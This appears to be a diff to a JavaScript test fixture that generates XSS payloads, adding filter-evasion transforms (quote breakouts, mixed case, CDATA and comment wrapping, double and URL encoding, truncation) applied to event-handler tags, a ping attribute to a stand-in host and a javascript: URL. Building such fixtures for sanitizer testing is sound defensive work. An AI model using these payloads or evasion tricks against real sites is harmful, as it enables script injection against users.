@@ -43,10 +43,21 @@ const TAGS = [
   `<a ping="https://boese.example" href="#">x</a>`,
   `<keygen autofocus onfocus=${ACT}>`,
 ];
+const swapCase = (text) => [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter.toLowerCase())).join("");
 const WAYS = [
   (tag) => tag,
   (tag) => `">${tag}`,
   (tag) => tag.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
+  (tag) => `'>${tag}`,
+  (tag) => tag.replaceAll(/<(\w+)/g, (_, name) => `<${swapCase(name)}`),
+  (tag) => `${tag}${tag}`,
+  (tag) => tag.replaceAll(/<(\w+) /g, "<$1/"),
+  (tag) => `<![CDATA[${tag}]]>`,
+  (tag) => `<!--${tag}-->${tag}`,
+  (tag) => tag.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
+  (tag) => tag.replaceAll("<", "%3C").replaceAll(">", "%3E"),
+  (tag) => `<${tag}`,
+  (tag) => tag.slice(0, -1),
 ];
 const OTHERS = [
   `javascript:${ACT}`,
@@ -80,8 +91,8 @@ const OTHERS = [
   `😀👩‍👩‍👧‍👦\u0301\u0301`,
 ];
 
-/** All of them: each tag plain, out of an attribute, and as entities; then what needs no tag. */
-export const PAYLOADS = [...TAGS.flatMap((tag) => WAYS.map((way) => way(tag))), ...OTHERS];
+/** All of them, more than 500: each tag plain, out of an attribute, as entities, cut off and so on; then what needs no tag. */
+export const PAYLOADS = [...new Set([...TAGS.flatMap((tag) => WAYS.map((way) => way(tag))), ...OTHERS])];
 
 /** A few that stand for all, for what is typed by hand. */
 export const TYPED = [TAGS[0], WAYS[1](TAGS[1]), WAYS[2](TAGS[2]), OTHERS[0], OTHERS[5], OTHERS[8]];
